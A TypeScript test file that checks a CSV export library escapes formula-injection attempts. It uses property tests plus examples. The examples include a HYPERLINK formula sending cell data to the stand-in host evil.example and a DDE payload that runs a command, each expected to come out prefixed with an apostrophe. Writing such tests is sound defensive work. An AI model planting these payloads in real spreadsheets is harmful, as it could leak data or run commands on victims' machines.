import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell, csvLine } from '../../src/lib/csv.ts';
import { parseCsv, plain, spreadsheetCells, textOf } from './csv.ts';

/** Texts with the special characters of CSV files and spreadsheets, and any others. */
const text = fc.oneof(
  fc.string({ unit: fc.constantFrom(...Array.from('=+-@\t\r\n\'",;|＝＋－＠ a1')) }),
  fc.string({ unit: 'grapheme' }),
);
const value = fc.oneof(
  text,
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(text),
  fc.dictionary(fc.string(), text),
);
test('a file reads back as it was written, whatever is in it', () => {
  const lines = fc.array(fc.array(value, { minLength: 1 }), { minLength: 1 });
  fc.assert(
    fc.property(lines, (written) => {
      const read = parseCsv(written.map(csvLine).join(''));
      expect(read.map((cells) => cells.map(plain))).toEqual(written.map((one) => one.map(textOf)));
    }),
  );
});

describe.each([',', ';', '\t', '|'])('A file that is separated by %j', (separator) => {
  test.each([true, false])('has no formula in any cell, with quotes: %s', (quotes) => {
    const rows = fc.array(fc.tuple(fc.nat(), value, value), { minLength: 1 });
    fc.assert(
      fc.property(rows, (written) => {
        const cells = spreadsheetCells(written.map(csvLine).join(''), separator, quotes);
        const live = cells.filter((cell) => /^[\t\r\n]*[=+\-@＝＋－＠]/.test(cell));
        expect(live.filter((cell) => !/^-\d+$/.test(cell))).toEqual([]);
        expect(cells.filter((cell) => cell.startsWith('\t'))).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});

test('A formula behind a separator, quotes or a line end gets an apostrophe, and other texts get none', () => {
  expect(csvCell('x;=HYPERLINK("http://evil.example/"&A1,"x")')).toBe(
    `"x;'=HYPERLINK(""http://evil.example/""&A1,""x"")"`,
  );
  expect(csvCell(";=cmd|'/C calc'!A0")).toBe(";'=cmd|'/C calc'!A0");
  expect(csvCell('x\t=1+1')).toBe("x\t'=1+1");
  expect(csvCell('x;"=1')).toBe(`"x;'""=1"`);
  expect(csvCell('x\r\n@1')).toBe(`"x\r\n'@1"`);
  for (const text of ['a; b', 'a, -b', 'Road 1,\n\nTown', 'x=1;y=2', '["+62811","+62812"]'])
    expect(plain(text)).toBe(text);
  expect(csvCell(['+62811', '+62812'])).toBe('"[""+62811"",""+62812""]"');
  expect(csvCell('Road 1,\n\nTown')).toBe('"Road 1,\n\nTown"');
});

test('only a number may begin like a formula in a cell', () => {
  fc.assert(
    fc.property(text, (of) => {
      const [[cell = ''] = []] = parseCsv(csvLine([of]));
      expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }),
  );
  expect(csvCell(-1500)).toBe('-1500');
  expect(csvCell('-1500')).toBe("'-1500");
});
